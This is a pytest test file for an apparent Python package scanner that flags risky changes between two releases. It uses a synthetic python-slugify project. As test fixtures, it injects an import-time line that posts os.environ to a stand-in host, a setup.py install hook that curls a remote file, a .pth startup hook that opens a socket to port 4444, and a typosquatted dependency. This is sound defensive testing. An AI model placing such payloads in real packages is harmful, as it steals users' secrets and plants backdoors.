"""Drift between two releases: pairs built here, scanned by the one engine, compared.

An honest release, then the same project with an import-time, install-time or start-up payload
added, must show risky drift; two honest releases of a project shaped like a real one must not.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.helpers import sdist_bytes, wheel_bytes

from capwatch.drift import Change, MetadataField, drift_between
from capwatch.drift.fold import with_drift
from capwatch.engine import scan_bytes
from capwatch.model import HookKind, Phase, ScanResult, Severity, Verdict
from capwatch.report.diff import SCHEMA, drift_to_dict, render_text
from capwatch.report.serialize import result_from_dict, result_to_dict

RISKY_RULES = {"CW201", "CW202"}


def pkg_info(name: str, version: str, *, email: str = "ada@slugs.example", extra: str = "") -> str:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        "Summary: A Python slugify application that also handles Unicode\n"
        "Home-page: https://github.com/un33k/python-slugify\n"
        f"Author: Val Neekman\nAuthor-email: {email}\nLicense: MIT\n"
        "Project-URL: Source, https://github.com/un33k/python-slugify\n"
        "Requires-Python: >=3.7\nRequires-Dist: text-unidecode>=1.3\n"
        f"{extra}\nPython Slugify\n==============\n\nA Python slugify application that handles unicode.\n"
    )


SLUGIFY_INIT = '''from .special import *
from .slugify import *
from .__version__ import __title__, __author__, __version__
'''
SLUGIFY_CORE = '''import re
import unicodedata
from html.entities import name2codepoint

from text_unidecode import unidecode

__all__ = ["slugify", "smart_truncate"]

CHAR_ENTITY_PATTERN = re.compile(r"&(%s);" % "|".join(name2codepoint))
DEFAULT_SEPARATOR = "-"


def smart_truncate(string, max_length=0, word_boundary=False, separator=" ", save_order=False):
    string = string.strip(separator)
    if not max_length or len(string) < max_length:
        return string
    return string[:max_length].strip(separator)


def slugify(text, entities=True, max_length=0, separator=DEFAULT_SEPARATOR, lowercase=True):
    text = unidecode(text)
    text = unicodedata.normalize("NFKD", text)
    if lowercase:
        text = text.lower()
    text = re.sub(r"[^-a-z0-9]+", separator, text).strip(separator)
    return smart_truncate(text, max_length, separator=separator)
'''
SLUGIFY_MAIN = '''import argparse
import sys

from .slugify import slugify


def main(argv=None):
    parser = argparse.ArgumentParser(description="Slug string")
    parser.add_argument("text", nargs="*")
    args = parser.parse_args(argv)
    print(slugify(" ".join(args.text)))


if __name__ == "__main__":
    main(sys.argv[1:])
'''
SETUP = '''import os
from setuptools import setup

here = os.path.abspath(os.path.dirname(__file__))
about = {{}}
with open(os.path.join(here, "slugify", "__version__.py")) as f:
    exec(f.read(), about)

setup(
    name="python-slugify",
    version="{version}",
    packages=["slugify"],
    install_requires=["text-unidecode>=1.3"],
    entry_points={{"console_scripts": ["slugify=slugify.__main__:main"]}},
)
'''


def slugify_release(version: str, **changes: str) -> dict[str, str]:
    files = {
        "PKG-INFO": pkg_info("python-slugify", version),
        "setup.py": SETUP.format(version=version),
        "slugify/__init__.py": SLUGIFY_INIT,
        "slugify/__version__.py": f'__title__ = "python-slugify"\n__author__ = "Val Neekman"\n'
                                  f'__version__ = "{version}"\n',
        "slugify/special.py": '_PRE = [("Ä", "AE")]\nPRE_TRANSLATIONS = _PRE\n',
        "slugify/slugify.py": SLUGIFY_CORE,
        "slugify/__main__.py": SLUGIFY_MAIN,
        "README.md": "# python-slugify\n",
    }
    files.update(changes)
    return files


def scan(files: Mapping[str, str], version: str) -> ScanResult:
    top = f"python-slugify-{version}"
    return scan_bytes(sdist_bytes(files, top=top), f"{top}.tar.gz")


def risky(findings: object) -> list[str]:
    return [f.rule for f in findings if f.rule in RISKY_RULES]  # type: ignore[attr-defined]


def test_two_honest_releases_show_no_risky_drift() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    new_core = SLUGIFY_CORE + '''

def slugify_all(texts, **kwargs):
    """Slugify several strings at once (new in 8.0.4)."""
    return [slugify(t, **kwargs) for t in texts]
'''
    new = scan(
        slugify_release("8.0.4", **{"slugify/slugify.py": new_core,
                                    "slugify/py.typed": ""}),
        "8.0.4",
    )
    drift = drift_between(old, new)
    assert drift.established
    assert drift.findings == ()
    assert drift.verdict is Verdict.CLEAN
    hooks = {(h.change, h.hook.kind) for h in drift.hooks}
    assert hooks == {(Change.CHANGED, HookKind.SETUP_SCRIPT)}  # the version string moved
    assert with_drift(new, drift).verdict is new.verdict


def test_import_time_payload_in_an_established_project_is_high_drift() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    payload = SLUGIFY_INIT + '''
import os, urllib.request
urllib.request.urlopen("https://telemetry.example.invalid/i", data=repr(dict(os.environ)).encode())
'''
    new = scan(slugify_release("8.0.5", **{"slugify/__init__.py": payload}), "8.0.5")
    drift = drift_between(old, new)
    gained = [f for f in drift.findings if f.rule == "CW201"]
    assert gained and gained[0].severity is Severity.HIGH and gained[0].phase is Phase.IMPORT
    assert "net.http.request" in gained[0].capabilities
    assert gained[0].evidence[0].location.path == "slugify/__init__.py"
    assert drift.verdict >= Verdict.SUSPICIOUS
    added = {(c.capability, c.phase) for c in drift.capabilities if c.change is Change.ADDED}
    assert ("net.http.request", Phase.IMPORT) in added
    # Folded into the new release's own verdict, drift makes it at least as bad.
    folded = with_drift(new, drift)
    assert folded.verdict >= max(new.verdict, Verdict.SUSPICIOUS)
    assert {f.rule for f in folded.findings} >= {"CW201"}
    assert folded.stats["drift"]["folded"] is True


def test_install_time_payload_and_new_command_class() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    setup = '''import subprocess
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        subprocess.check_call(["curl", "-o", "/tmp/x", "https://x.example.invalid/x"])
        install.run(self)


setup(name="python-slugify", version="8.0.5", cmdclass={"install": Install})
'''
    new = scan(slugify_release("8.0.5", **{"setup.py": setup}), "8.0.5")
    drift = drift_between(old, new)
    rules = {f.rule for f in drift.findings}
    assert {"CW201", "CW202"} <= rules
    hook = [h for h in drift.hooks if h.hook.kind is HookKind.SETUP_COMMAND]
    assert hook and hook[0].change is Change.ADDED and "Install(" in hook[0].hook.detail
    assert any(f.rule == "CW201" and f.phase is Phase.INSTALL for f in drift.findings)


def test_startup_pth_payload() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    new = scan(
        slugify_release(
            "8.0.5",
            **{"slugify_hook.pth": "import slugify_boot\n",
               "slugify_boot.py": "import socket\nsocket.create_connection(('198.51.100.7', 4444))\n"},
        ),
        "8.0.5",
    )
    drift = drift_between(old, new)
    assert {"CW201", "CW202"} <= {f.rule for f in drift.findings}
    new_files = {f.file.path: f for f in drift.files if f.change is Change.ADDED}
    assert "slugify_boot.py" in new_files and "net.socket" in new_files["slugify_boot.py"].capabilities


def test_metadata_dependency_and_contact_drift() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    info = pkg_info("python-slugify", "8.0.5", email="owner@mail.example.invalid",
                    extra="Requires-Dist: reqeusts\n")
    new = scan(slugify_release("8.0.5", **{"PKG-INFO": info}), "8.0.5")
    drift = drift_between(old, new)
    assert [d.name for d in drift.dependencies if d.change is Change.ADDED] == ["reqeusts"]
    fields = {m.field for m in drift.metadata}
    assert MetadataField.AUTHOR_EMAIL in fields
    rules = {f.rule: f for f in drift.findings}
    assert rules["CW204"].severity is Severity.LOW
    assert rules["CW203"].severity is Severity.LOW and "requests" in rules["CW203"].message


def test_drift_from_stored_results_matches_fresh_drift() -> None:
    """The review service's seam: results rebuilt from capwatch.scan/1 JSON compare the same."""
    old = scan(slugify_release("8.0.3"), "8.0.3")
    new = scan(slugify_release("8.0.5", **{"slugify/__init__.py": SLUGIFY_INIT + "import os\nos.system('id')\n"}), "8.0.5")
    fresh = drift_between(old, new)
    stored = drift_between(result_from_dict(result_to_dict(old)), result_from_dict(result_to_dict(new)))
    assert stored.findings == fresh.findings and stored.capabilities == fresh.capabilities
    assert stored.hooks == fresh.hooks and stored.verdict is fresh.verdict


def test_wheels_compare_and_kinds_are_noted() -> None:
    old = scan_bytes(wheel_bytes({"demo/__init__.py": "X = 1\n"}, version="1.0"), "demo-1.0-py3-none-any.whl")
    new = scan_bytes(
        wheel_bytes({"demo/__init__.py": "import subprocess\nsubprocess.run(['id'])\n"}, version="1.1"),
        "demo-1.1-py3-none-any.whl",
    )
    drift = drift_between(old, new)
    assert any(f.rule == "CW201" for f in drift.findings) and not drift.notes
    sdist = scan_bytes(sdist_bytes({"demo/__init__.py": "X = 1\n"}, top="demo-1.0"), "demo-1.0.tar.gz")
    assert any("compare like with like" in n for n in drift_between(sdist, new).notes)


def test_unreadable_release_gives_an_error_drift() -> None:
    good = scan(slugify_release("8.0.3"), "8.0.3")
    bad = scan_bytes(b"", "empty.tar.gz")
    drift = drift_between(good, bad)
    assert drift.verdict is Verdict.ERROR and drift.findings == ()
    assert "could not be scanned" in drift.notes[0]
    assert with_drift(bad, drift).verdict is Verdict.ERROR


def test_releases_of_different_projects_are_noted_not_folded() -> None:
    a = scan_bytes(sdist_bytes({"a/__init__.py": ""}, top="alpha-1.0"), "alpha-1.0.tar.gz")
    b = scan_bytes(sdist_bytes({"b/__init__.py": "import os\nos.system('id')\n"}, top="beta-1.0"), "beta-1.0.tar.gz")
    drift = drift_between(a, b)
    assert any("different projects" in n for n in drift.notes)
    assert with_drift(b, drift).stats["drift"]["folded"] is False


def test_json_document_and_text() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    new = scan(slugify_release("8.0.5", **{"slugify/__init__.py": SLUGIFY_INIT + "import os\nos.system('id')\n"}), "8.0.5")
    drift = drift_between(old, new)
    doc = drift_to_dict(drift)
    assert doc["schema"] == SCHEMA == "capwatch.diff/1"
    assert list(doc) == [
        "schema", "old", "new", "established", "verdict", "score", "findings", "capabilities",
        "hooks", "files", "dependencies", "metadata", "notes",
    ]
    assert doc["new"]["version"] == "8.0.5" and doc["findings"][0]["rule"] == "CW201"
    text = render_text(drift)
    assert "CW201" in text and "+ proc.shell" in text


@pytest.mark.network
def test_two_real_releases_from_the_index_show_no_risky_drift(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two versions of a small popular package, downloaded (skipped when the index is out of reach)."""
    from capwatch.drift.command import scan_spec
    from capwatch.engine import ScanOptions
    from capwatch.sources import NetworkError, ProjectNotFoundError, VersionNotFoundError

    monkeypatch.setenv("CAPWATCH_CACHE_DIR", str(tmp_path))
    try:
        old = scan_spec("six==1.16.0", ScanOptions())
        new = scan_spec("six==1.17.0", ScanOptions())
    except (NetworkError, ProjectNotFoundError, VersionNotFoundError) as exc:
        pytest.skip(f"the index does not serve both releases: {exc.diagnostic}")
    drift = drift_between(old, new)
    assert drift.verdict is not Verdict.ERROR, drift.notes
    assert not risky(drift.findings), [(f.rule, f.message) for f in drift.findings]


def test_tooling_folders_and_src_layout_moves_are_not_risky_drift() -> None:
    old = scan(slugify_release("8.0.3"), "8.0.3")
    moved = {
        (f"src/{k}" if k.startswith("slugify/") else k): v
        for k, v in slugify_release("8.0.4").items()
    }
    moved["tests/__init__.py"] = "# tests\n"
    moved["tests/server.py"] = "import socket\nSERVER = socket.socket()\n"
    new = scan(moved, "8.0.4")
    drift = drift_between(old, new)
    assert [f.file.path for f in drift.files] == ["tests/__init__.py", "tests/server.py"]
    assert not risky(drift.findings), [(f.rule, f.message) for f in drift.findings]


def test_contact_addresses_compare_by_address() -> None:
    from capwatch.drift.compare import addresses

    assert addresses("contact@palletsprojects.com") == addresses("Pallets <Contact@PalletsProjects.com>")
    assert addresses("Ada <ada@x.example>, bob@y.example") == {"ada@x.example", "bob@y.example"}
    assert addresses("") == frozenset()
